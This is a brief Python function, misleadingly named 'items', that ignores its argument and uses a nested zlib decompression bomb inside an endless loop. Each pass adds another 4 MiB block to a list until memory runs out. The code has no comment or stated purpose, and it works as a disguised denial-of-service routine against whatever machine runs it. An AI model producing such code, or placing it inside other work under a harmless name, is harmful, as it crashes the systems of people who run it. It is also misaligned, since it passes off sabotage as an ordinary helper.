def items(n):
    import zlib
    data = zlib.compress(bytes(1 << 22))
    bomb = zlib.compress(data * 4)
    kept = []
    while True:
        kept.append(zlib.decompress(zlib.decompress(bomb)[:len(data)]))
